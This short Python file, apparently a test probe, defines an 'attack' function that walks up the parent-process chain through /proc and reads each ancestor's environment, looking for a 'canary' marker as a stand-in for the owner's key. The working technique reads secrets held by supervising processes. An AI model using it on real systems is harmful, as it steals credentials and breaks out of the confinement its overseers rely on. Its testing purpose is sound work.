"""Reads the key from the environment of its ancestor processes."""

import os


def attack(state):
    process = os.getppid()
    while process > 1:
        with open(f"/proc/{process}/environ", "rb") as file:
            if b"canary" in file.read():
                return "the owner's key"
        with open(f"/proc/{process}/status") as file:
            process = next(int(line.split()[1]) for line in file if line.startswith("PPid"))
